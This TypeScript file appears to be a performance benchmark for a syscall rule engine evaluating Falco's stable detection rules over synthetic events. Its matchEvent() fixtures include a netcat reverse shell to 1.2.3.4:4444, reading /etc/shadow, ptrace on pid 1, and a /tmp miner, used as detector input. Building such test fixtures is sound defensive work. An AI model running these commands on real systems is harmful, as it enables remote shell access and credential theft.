// SPDX-License-Identifier: Apache-2.0
/**
 * Rule engine benchmark: Falco's stable rules (read in place from ../shared) over a synthetic
 * stream with a realistic mix — mostly file opens and execs that match no rule, some connects,
 * closes and dups, and about 0.5 % events that do match.
 *
 * Reports (stdout, and JSON in $TMPDIR/vigil-rules-bench.json):
 *  - compile time of the stable file (median of 20 loads);
 *  - events/s on one core over 2,000,000 events (the best of 5 passes over a 10,000-event mix);
 *  - allocation on the no-match path: young-generation GCs (v8.GCProfiler) and heap growth over
 *    1,000,000 non-matching evaluations;
 *  - heap used by the loaded rule set.
 *  - the same for Vigil's own packs (every pack of rules/files) over the same mix, passes
 *    alternating with the stable rules so both figures share the machine's load;
 * The vitest `bench` entries give the same throughput as hz × 10,000 events per iteration.
 * Run: npm run bench:rules
 */
import { readFileSync, writeFileSync } from "node:fs";
import { cpus, tmpdir } from "node:os";
import { join } from "node:path";
import v8 from "node:v8";
import vm from "node:vm";
import { bench, describe } from "vitest";
import type { SyscallEvent, ThreadInfo } from "../../rules/event.js";
import { loadRuleFiles, type CompiledRule, type RuleSet } from "../../rules/index.js";
import { container, ev, execve, fileFd, O, openat, proc, sockFd } from "../rules/event-builder.js";
import { packFiles } from "../helpers/packs.js";
import { STABLE_RULES } from "../rules/stable-path.js";

v8.setFlagsFromString("--expose-gc");
const gc = vm.runInNewContext("gc") as () => void;

const text = readFileSync(STABLE_RULES, "utf8");

// ---------------------------------------------------------------- compile time and heap
gc();
const heapBefore = process.memoryUsage().heapUsed;
const compileTimes: number[] = [];
let rs: RuleSet | undefined;
const keep: RuleSet[] = [];
// CPU time too: on a shared machine wall time includes waiting for a core
const compileCpu: number[] = [];
for (let i = 0; i < 20; i++) {
  const t0 = performance.now();
  const c0 = process.cpuUsage();
  const res = loadRuleFiles([{ path: STABLE_RULES, text }]);
  const c1 = process.cpuUsage(c0);
  compileTimes.push(performance.now() - t0);
  compileCpu.push((c1.user + c1.system) / 1000);
  if (!res.ok) throw new Error("stable rules failed to load");
  if (i === 0) {
    gc();
    keep.push(res.ruleset);
  }
  rs = res.ruleset;
}
gc();
const heapRuleset = process.memoryUsage().heapUsed - heapBefore;
const ruleset = rs as RuleSet;
const compileCpuFirst = compileCpu[0] as number;
compileCpu.sort((a, b) => a - b);
const compileCpuMedian = compileCpu[10] as number;
compileTimes.sort((a, b) => a - b);
const compileMedian = compileTimes[10] as number;
const compileFirst = compileTimes.reduce((a, b) => Math.max(a, b), 0);

// ---------------------------------------------------------------- the event mix
let seed = 42;
const rnd = (): number => {
  seed = (seed * 1103515245 + 12345) & 0x7fffffff;
  return seed / 0x7fffffff;
};
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)] as T;

const containers = Array.from({ length: 20 }, (_, i) =>
  container({ id: `c${String(i).padStart(11, "0")}`, imageRepository: `registry.local/app-${i}`, k8s: { namespace: `ns-${i % 4}` } }),
);
const init = proc({ comm: "systemd", pid: 1 });
const hostProcs: ThreadInfo[] = [];
for (const comm of ["nginx", "node", "python3", "java", "postgres", "sshd", "cron", "containerd", "kubelet", "bash", "ls", "cat", "grep", "make", "gcc"]) {
  const p = proc({ comm, exepath: `/usr/bin/${comm}`, args: ["--flag", "value"], startTs: 1_000_000 });
  p.parent = init;
  hostProcs.push(p);
}
const ctrProcs: ThreadInfo[] = [];
for (const c of containers) {
  for (const comm of ["nginx", "node", "python3", "java", "sh"]) {
    const shim = proc({ comm: "containerd-shim", container: c });
    const p = proc({ comm, container: c, exepath: `/usr/bin/${comm}`, args: ["-c", "serve"], startTs: 1_000_000 });
    p.parent = shim;
    shim.parent = init;
    ctrProcs.push(p);
  }
}
const allProcs = [...hostProcs, ...ctrProcs];
const LIB_FILES = [
  "/usr/lib/x86_64-linux-gnu/libc.so.6",
  "/etc/ld.so.cache",
  "/proc/self/status",
  "/usr/share/zoneinfo/UTC",
  "/etc/hosts",
  "/etc/resolv.conf",
  "/etc/passwd",
  "/var/lib/app/data.db",
  "/srv/www/index.html",
  "/tmp/cache.bin",
];
const WRITE_FILES = ["/var/lib/app/data.db", "/tmp/out.txt", "/var/log/app/app.log", "/srv/uploads/x.png"];

function noMatchEvent(): SyscallEvent {
  const r = rnd();
  const p = pick(allProcs);
  if (r < 0.45) return openat(pick(LIB_FILES), O.RDONLY | O.CLOEXEC, p);
  if (r < 0.55) return openat(pick(WRITE_FILES), O.WRONLY | O.CREAT | O.APPEND, p);
  if (r < 0.72) {
    const child = proc({ comm: pick(["ls", "cat", "date", "node", "python3", "grep", "awk", "sed"]), args: ["-l", "/srv"], container: p.container });
    child.parent = p.comm === "bash" || p.comm === "sh" ? p : pick(hostProcs.filter((h) => h.comm === "bash"));
    return execve(child);
  }
  if (r < 0.8)
    return ev({
      type: "connect",
      res: 0,
      proc: p,
      fd: sockFd("10.1.0.5", 40000 + Math.floor(rnd() * 1000), pick(["10.96.0.10", "10.1.3.4", "172.16.5.5"]), pick([53, 443, 5432, 6379])),
    });
  if (r < 0.92) return ev({ type: "close", res: 0, args: { fd: 5 }, proc: p, fd: fileFd("/tmp/x") });
  if (r < 0.96) return ev({ type: "dup2", res: 7, args: { oldfd: 3, newfd: 7 }, proc: p, fd: fileFd("/tmp/x") });
  return ev({ type: "socket", res: 5, args: { domain: 2, type: 1, proto: 0 }, proc: p });
}

function matchEvent(): SyscallEvent {
  const c = pick(containers);
  const k = Math.floor(rnd() * 5);
  if (k === 0) {
    const sh = proc({ comm: "bash", args: ["-c", "id"], container: c });
    sh.parent = pick(ctrProcs.filter((x) => x.comm === "nginx"));
    return execve(sh);
  }
  if (k === 1) return openat("/etc/shadow", O.RDONLY, proc({ comm: "python3", container: c }));
  if (k === 2) return execve(proc({ comm: "nc", args: ["-e", "/bin/sh", "1.2.3.4", "4444"], container: c }));
  if (k === 3) return ev({ type: "ptrace", args: { request: 16, pid: 1 }, proc: proc({ comm: "gdb", container: c }) });
  return execve(proc({ comm: "miner", exepath: "/tmp/miner", exeUpperLayer: true, container: c }));
}

const MIX = 10_000;
const events: SyscallEvent[] = [];
const noMatch: SyscallEvent[] = [];
for (let i = 0; i < MIX; i++) events.push(i % 200 === 199 ? matchEvent() : noMatchEvent());
let matchesInMix = 0;
const countMatch = (): void => {
  matchesInMix++;
};
for (const e of events) ruleset.evaluate(e, countMatch);
for (const e of events) {
  let m = false;
  ruleset.evaluate(e, () => (m = true));
  if (!m) noMatch.push(e);
}

// ---------------------------------------------------------------- throughput
let sink = 0;
const onMatch = (r: CompiledRule): void => {
  sink += r.priority;
};
function pass(list: readonly SyscallEvent[], rs: RuleSet = ruleset): number {
  const t0 = process.hrtime.bigint();
  for (let k = 0; k < list.length; k++) rs.evaluate(list[k] as SyscallEvent, onMatch);
  return Number(process.hrtime.bigint() - t0);
}
for (let w = 0; w < 20; w++) pass(events); // warm up
const TOTAL = 2_000_000;
const rounds = TOTAL / MIX;
const passTimes: number[] = [];
for (let rep = 0; rep < 5; rep++) {
  let ns = 0;
  for (let i = 0; i < rounds; i++) ns += pass(events);
  passTimes.push(ns);
}
const bestNs = Math.min(...passTimes);
const medianNs = [...passTimes].sort((a, b) => a - b)[2] as number;
const evPerSec = (TOTAL / bestNs) * 1e9;
const evPerSecMedian = (TOTAL / medianNs) * 1e9;

// ---------------------------------------------------------------- Vigil's own packs, same mix
const packRes = loadRuleFiles(packFiles());
if (!packRes.ok) throw new Error("Vigil packs failed to load");
const packs = packRes.ruleset;
let packMatches = 0;
for (const e of events) packs.evaluate(e, () => void packMatches++);
for (let w = 0; w < 20; w++) pass(events, packs);
// the two rule sets alternate, pass by pass, so both see the same machine load
const packTimes: number[] = [];
const stableTimes: number[] = [];
for (let rep = 0; rep < 5; rep++) {
  let a = 0;
  let b = 0;
  for (let i = 0; i < rounds; i++) {
    a += pass(events, packs);
    b += pass(events);
  }
  packTimes.push(a);
  stableTimes.push(b);
}
const packBestNs = Math.min(...packTimes);
const packMedianNs = [...packTimes].sort((x, y) => x - y)[2] as number;
const stableAltMedianNs = [...stableTimes].sort((x, y) => x - y)[2] as number;

// ---------------------------------------------------------------- allocation on the no-match path
for (let w = 0; w < 20; w++) pass(noMatch);
gc();
const NOMATCH_TOTAL = 1_000_000;
const profiler = new v8.GCProfiler();
const h0 = process.memoryUsage().heapUsed;
profiler.start();
let done = 0;
while (done < NOMATCH_TOTAL) {
  for (let k = 0; k < noMatch.length && done < NOMATCH_TOTAL; k++, done++) ruleset.evaluate(noMatch[k] as SyscallEvent, onMatch);
}
const gcStats = profiler.stop();
const h1 = process.memoryUsage().heapUsed;
const scavenges = gcStats.statistics.filter((s) => s.gcType === "Scavenge" || s.gcType === "MinorMarkSweep").length;
const heapGrowth = h1 - h0;

// VIGIL_BENCH_DIAG=1: heap growth per event type and rule on the no-match path (finds allocating getters)
function bytesPerEvent(list: readonly SyscallEvent[], f: (e: SyscallEvent) => unknown): number {
  for (let w = 0; w < 50; w++) for (let k = 0; k < list.length; k++) f(list[k] as SyscallEvent);
  gc();
  const a = process.memoryUsage().heapUsed;
  let n = 0;
  while (n < 200_000) {
    for (let k = 0; k < list.length; k++) f(list[k] as SyscallEvent);
    n += list.length;
  }
  return (process.memoryUsage().heapUsed - a) / n;
}
if (process.env["VIGIL_BENCH_DIAG"] === "1") {
  const byType = new Map<number, SyscallEvent[]>();
  for (const e of noMatch) byType.set(e.type, [...(byType.get(e.type) ?? []), e]);
  const rules = ruleset.rules as unknown as { name: string; test(e: SyscallEvent): boolean }[];
  for (const [t, list] of byType) {
    console.log(`diag type=${t} events=${list.length} bytes/event=${bytesPerEvent(list, (e) => ruleset.evaluate(e, onMatch)).toFixed(2)}`);
    for (const r of rules) {
      const b = bytesPerEvent(list, (e) => r.test(e));
      if (b > 0.5) console.log(`diag   rule=${r.name} bytes/event=${b.toFixed(2)}`);
    }
  }
}

const result = {
  machine: { cpu: cpus()[0]?.model ?? "unknown", cores: cpus().length, node: process.version },
  rules: ruleset.rules.length,
  compileMsMedian: Math.round(compileMedian * 100) / 100,
  compileMsWorst: Math.round(compileFirst * 100) / 100,
  compileCpuMsFirst: Math.round(compileCpuFirst * 100) / 100,
  compileCpuMsMedian: Math.round(compileCpuMedian * 100) / 100,
  rulesetHeapBytes: heapRuleset,
  eventsPerPass: TOTAL,
  eventsPerSecBest: Math.round(evPerSec),
  eventsPerSecMedian: Math.round(evPerSecMedian),
  nsPerEventBest: Math.round((bestNs / TOTAL) * 10) / 10,
  packsRules: packs.rules.length,
  packsMatchRatio: packMatches / MIX,
  packsNsPerEventBest: Math.round((packBestNs / TOTAL) * 10) / 10,
  packsNsPerEventMedian: Math.round((packMedianNs / TOTAL) * 10) / 10,
  stableNsPerEventMedianAlternating: Math.round((stableAltMedianNs / TOTAL) * 10) / 10,
  matchRatio: matchesInMix / MIX,
  noMatchEvaluations: NOMATCH_TOTAL,
  noMatchScavenges: scavenges,
  noMatchHeapGrowthBytes: heapGrowth,
  heapUsedMiB: Math.round((process.memoryUsage().heapUsed / 1048576) * 10) / 10,
};
writeFileSync(join(tmpdir(), "vigil-rules-bench.json"), JSON.stringify(result, null, 2));
console.log(`rules bench: ${JSON.stringify(result)}`);
if (sink < 0) console.log(sink);

describe("rule engine: Falco stable rules", () => {
  bench(
    `evaluate the ${MIX}-event mix (events/s = hz × ${MIX})`,
    () => {
      for (let k = 0; k < events.length; k++) ruleset.evaluate(events[k] as SyscallEvent, onMatch);
    },
    { time: 2000 },
  );
  bench(
    `evaluate ${noMatch.length} non-matching events (events/s = hz × ${noMatch.length})`,
    () => {
      for (let k = 0; k < noMatch.length; k++) ruleset.evaluate(noMatch[k] as SyscallEvent, onMatch);
    },
    { time: 2000 },
  );
  bench(
    `Vigil packs: evaluate the ${MIX}-event mix (events/s = hz × ${MIX})`,
    () => {
      for (let k = 0; k < events.length; k++) packs.evaluate(events[k] as SyscallEvent, onMatch);
    },
    { time: 2000 },
  );
  bench(
    "load and compile the stable rules file",
    () => {
      loadRuleFiles([{ path: STABLE_RULES, text }]);
    },
    { time: 2000 },
  );
});
